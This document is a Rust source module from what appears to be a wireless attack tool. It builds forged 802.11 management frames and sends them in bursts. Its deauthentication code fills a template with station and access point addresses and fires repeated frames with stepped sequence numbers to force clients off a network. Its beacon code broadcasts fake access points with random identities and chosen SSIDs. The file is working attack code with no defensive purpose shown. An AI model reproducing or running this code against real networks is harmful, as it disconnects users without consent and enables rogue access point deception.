//! Forged management frame synthesis
//!
//! Builds deauthentication and spoofed-beacon frames from fixed templates
//! and pushes them out through the injection seam in bursts. There is no
//! acknowledgment feedback on the air, so the deauth burst repeats the
//! frame with a stepped sequence field to raise the odds that at least one
//! copy is honored.

use std::time::Duration;

use rand::Rng;

use crate::daemon::io::FrameInjector;
use crate::frame::MacAddr;
use crate::station::Station;
use crate::Result;

/// Bytes in a deauthentication frame.
pub const DEAUTH_FRAME_LEN: usize = 26;
/// Frames transmitted per deauthentication burst.
pub const DEAUTH_BURST_COUNT: u16 = 16;
/// Pause between deauthentication transmissions.
pub const DEAUTH_FRAME_GAP: Duration = Duration::from_millis(1);

/// Bytes of the spoofed-beacon template actually put on the air.
pub const FORGED_BEACON_LEN: usize = 57;
/// Width of the fixed SSID field in the spoofed-beacon template. The
/// template always advertises this length no matter how short the text is.
pub const FORGED_SSID_FIELD_LEN: usize = 16;

/// Deauthentication frame skeleton: frame control, zeroed address block,
/// preset sequence-control bytes, reason code 1 (unspecified).
const DEAUTH_TEMPLATE: [u8; DEAUTH_FRAME_LEN] = [
    0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x70, 0x6a, 0x01, 0x00,
];

/// Beacon template head: frame control, broadcast destination, placeholder
/// identity, timestamp, interval, capabilities, a 16-byte SSID element,
/// supported rates, and a channel element. The tail of the 128-byte buffer
/// stays zero; only the first [`FORGED_BEACON_LEN`] bytes are transmitted.
const BEACON_TEMPLATE_HEAD: [u8; 67] = [
    0x80, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01, 0x02, 0x03,
    0x04, 0x05, 0x06, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0xc0, 0x6c, 0x83, 0x51,
    0xf7, 0x8f, 0x0f, 0x00, 0x00, 0x00, 0x64, 0x00, 0x01, 0x04, 0x00, 0x10, 0x72,
    0x72, 0x72, 0x72, 0x72, 0x72, 0x72, 0x72, 0x72, 0x72, 0x72, 0x72, 0x72, 0x72,
    0x72, 0x72, 0x01, 0x08, 0x82, 0x84, 0x8b, 0x96, 0x24, 0x30, 0x48, 0x6c, 0x03,
    0x01, 0x04,
];

/// Offset of the destination address in a management frame.
const ADDR1_OFFSET: usize = 4;
/// Offset of the source address.
const ADDR2_OFFSET: usize = 10;
/// Offset of the BSSID.
const ADDR3_OFFSET: usize = 16;
/// Offset of the SSID text inside the spoofed-beacon template.
const FORGED_SSID_OFFSET: usize = 38;

/// Write a sequence value into the sequence-control bytes with the same
/// non-standard split the station parser reconstructs from: low byte is
/// the value modulo 255, high byte the value divided by 255.
pub fn encode_sequence(frame: &mut [u8], seq: u16) {
    frame[22] = (seq % 255) as u8;
    frame[23] = (seq / 255) as u8;
}

/// Build one deauthentication frame: destination = station, source and
/// BSSID = access point.
pub fn build_deauth_frame(station: MacAddr, ap: MacAddr, seq: u16) -> [u8; DEAUTH_FRAME_LEN] {
    let mut frame = DEAUTH_TEMPLATE;
    frame[ADDR1_OFFSET..ADDR1_OFFSET + 6].copy_from_slice(station.as_bytes());
    frame[ADDR2_OFFSET..ADDR2_OFFSET + 6].copy_from_slice(ap.as_bytes());
    frame[ADDR3_OFFSET..ADDR3_OFFSET + 6].copy_from_slice(ap.as_bytes());
    encode_sequence(&mut frame, seq);
    frame
}

/// Transmit a deauthentication burst against a stored station record.
///
/// Sixteen frames go out, each stepping the sequence field by 16 from the
/// record's last observed value, with a 1 ms pause between transmissions.
/// The burst blocks its caller for its full duration.
pub async fn deauth_burst(injector: &dyn FrameInjector, target: &Station) -> Result<()> {
    log::info!(
        "deauth burst: station {} away from {}",
        target.station,
        target.ap
    );
    for i in 0..DEAUTH_BURST_COUNT {
        let seq = target.seq.wrapping_add(16 * i);
        let frame = build_deauth_frame(target.station, target.ap, seq);
        injector.transmit(&frame).await?;
        tokio::time::sleep(DEAUTH_FRAME_GAP).await;
    }
    Ok(())
}

/// Build one spoofed beacon advertising `ssid` from the given ephemeral
/// identity. The identity lands in both the transmitter-address and BSSID
/// fields; the SSID text fills a fixed 16-byte field, zero padded, while
/// the advertised element length stays 16.
pub fn build_spoofed_beacon(identity: MacAddr, ssid: &[u8]) -> [u8; 128] {
    let mut frame = [0u8; 128];
    frame[..BEACON_TEMPLATE_HEAD.len()].copy_from_slice(&BEACON_TEMPLATE_HEAD);
    frame[ADDR2_OFFSET..ADDR2_OFFSET + 6].copy_from_slice(identity.as_bytes());
    frame[ADDR3_OFFSET..ADDR3_OFFSET + 6].copy_from_slice(identity.as_bytes());

    let text_len = ssid.len().min(FORGED_SSID_FIELD_LEN);
    let field = &mut frame[FORGED_SSID_OFFSET..FORGED_SSID_OFFSET + FORGED_SSID_FIELD_LEN];
    field.fill(0);
    field[..text_len].copy_from_slice(&ssid[..text_len]);
    frame
}

/// Transmit a spoofed-beacon burst.
///
/// One random six-octet identity is drawn per call, so the forged access
/// point is ephemeral to the burst. The first [`FORGED_BEACON_LEN`] bytes
/// of the template go out back-to-back `packets` times with no delay and
/// no further variation. An empty SSID or a zero count is a no-op.
pub async fn spoofed_beacon_burst(
    injector: &dyn FrameInjector,
    ssid: &str,
    packets: u8,
) -> Result<()> {
    if ssid.is_empty() || packets == 0 {
        return Ok(());
    }

    let identity = MacAddr(rand::thread_rng().gen());
    let frame = build_spoofed_beacon(identity, ssid.as_bytes());
    log::info!("beacon burst: {} x \"{}\" as {}", packets, ssid, identity);
    for _ in 0..packets {
        injector.transmit(&frame[..FORGED_BEACON_LEN]).await?;
    }
    Ok(())
}
